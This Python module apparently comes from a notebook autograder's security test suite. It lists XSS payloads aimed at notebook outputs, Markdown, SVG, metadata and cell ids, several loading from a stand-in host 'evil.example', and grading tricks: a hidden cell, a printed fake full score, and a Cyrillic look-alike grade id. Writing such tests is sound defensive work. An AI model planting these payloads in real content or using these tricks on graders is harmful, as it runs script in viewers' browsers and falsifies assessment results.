"""Deceiving who looks: script in what they read, scores that nobody gave, cells that hide."""

from __future__ import annotations

import json

from .attack import FULL, Attack, code, identity, named, prose

EVIL = "http://evil.example"
IMAGE = f"<img src={EVIL}/x.png onerror='pwned()'>"
SCRIPT = f"<script src={EVIL}/x.js></script><script>pwned()</script>"


def shown(**data):
    """A cell whose code displays `data`."""
    return f"from IPython.display import display\ndisplay({({kind.replace('__', '/').replace('_xml', '+xml'): text for kind, text in data.items()})!r}, raw=True)"


def deceives(name: str, tries: str, **more) -> Attack:
    return Attack(f"deceives by {name}", tries, **{"worth": FULL, "solved": True, **more})


def adds(*cells):
    return lambda notebook: {**notebook, "cells": notebook["cells"] + list(cells)}


def hidden(notebook):
    cell = code("torch.tanh = torch.relu\n" * 0 + "secret = 'hidden'")
    cell["metadata"] = {"jupyter": {"source_hidden": True, "outputs_hidden": True}, "collapsed": True, "tags": ["remove-cell", "hide-input"], "hide_input": True}
    notebook["cells"].insert(4, cell)
    return notebook


def look_alike(notebook):
    extra = json.loads(json.dumps(named(notebook, "check_RNNCell")))
    extra["metadata"]["nbgrader"]["grade_id"] = "check_RNNСell"  # the C is Cyrillic
    extra["source"] = "35.0"
    notebook["cells"].append(extra)
    return notebook


def metadata(notebook):
    notebook["metadata"] |= {"title": SCRIPT, "kernelspec": {"name": "bash", "display_name": SCRIPT, "language": SCRIPT}, "language_info": {"name": SCRIPT, "pygments_lexer": SCRIPT},
                             "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT}}}}
    return notebook


def ids(notebook):
    for cell in notebook["cells"]:
        if identity(cell) == "unroll":
            cell["id"] = "x\"><script>pwned()</script>"
            cell["metadata"]["tags"] = ['"><script>pwned()</script>']
    return notebook


ATTACKS = [
    deceives("HTML", "an output that runs script and loads a file", last=(shown(text__html=SCRIPT + IMAGE),)),
    deceives("SVG", "a picture that runs script", last=(shown(image__svg_xml=f"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'><script>pwned()</script><image href='{EVIL}/x.png'/></svg>"),)),
    deceives("JavaScript", "an output that is script", last=(shown(application__javascript="pwned()"), "%%javascript\npwned()")),
    deceives("Markdown output", "an output of Markdown with script", last=(shown(text__markdown=SCRIPT + f"![x]({EVIL}/x.png)"),)),
    deceives("LaTeX", "an output of LaTeX with a link that runs script", last=(shown(text__latex=r"$\href{javascript:pwned()}{x}$" + SCRIPT),)),
    deceives("a picture that ends early", "a base64 picture that breaks out of its attribute", last=(shown(image__png='AAAA" onerror="pwned()" x="'),)),
    deceives("plain text", "text with tags, control characters and escapes", last=("print('</pre>" + SCRIPT.replace("'", "") + "\\x1b]0;pwned()\\x07\\x1b[2J\\u202e')",)),
    deceives("a widget", "a widget's state with script", last=(shown(**{"application__vnd.jupyter.widget-view+json": SCRIPT}),)),
    deceives("Markdown", "a text cell with script and pictures from elsewhere", change=adds(prose(SCRIPT + IMAGE + f"\n\n![x]({EVIL}/y.png) [click](javascript:pwned()) <iframe src='{EVIL}'></iframe>"))),
    deceives("Markdown in a fence", "a text cell that closes the fence it is put in", change=adds(prose("```\n" + SCRIPT + "\n```\n````\n" + IMAGE + "\n~~~\n$$\\href{javascript:pwned()}{x}$$"))),
    deceives("a raw cell", "a raw cell with script", change=adds(prose(SCRIPT + IMAGE, "raw"), {**prose(SCRIPT, "raw"), "metadata": {"raw_mimetype": "text/html", "format": "text/html"}})),
    deceives("an attachment", "an attachment with script", change=adds(prose("![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4="}}))),
    deceives("an error", "an error whose name and message are markup", last=("class E(Exception): pass\nE.__name__ = '<script>pwned()</script>'\nraise E(\"<img src=x onerror='pwned()'>\")",)),
    deceives("a message of the report", "an error message of an exercise with markup", worth=FULL - 20, cells={"rnn_step": f"def rnn_step(*a):\n    raise ValueError({SCRIPT + IMAGE!r})"}),
    deceives("a name of the report", "names of parameters and types with markup", worth=FULL - 35, cells={"RNNCell": "class RNNCell(nn.Module):\n    def __init__(self, *a, **k):\n        super().__init__()\n        self.register_parameter('<script>pwned()</script>', nn.Parameter(torch.zeros(1)))\nRNNCell.__name__ = '<script>pwned()</script>'"}),
    deceives("code", "code with tags in it", last=("# </pre></div>" + SCRIPT + "\nx = '</textarea>" + SCRIPT.replace("'", "") + "'",)),
    deceives("metadata", "names of kernels and languages with markup", change=metadata),
    deceives("ids and tags", "ids and tags of cells with markup", change=ids),
    deceives("a hidden cell", "a cell that no viewer shows", change=hidden),
    Attack("deceives by a printed score", "prints a report of full points into its cell", cells={"rnn_step": "print('rnn_step  20 of 20 points')\nfrom IPython.display import HTML, display\ndisplay(HTML('<strong>20 of 20 points</strong>'), 20.0)\n20.0"}),
    Attack("deceives by a look-alike", "a graded cell whose id looks like another's", change=look_alike),
]
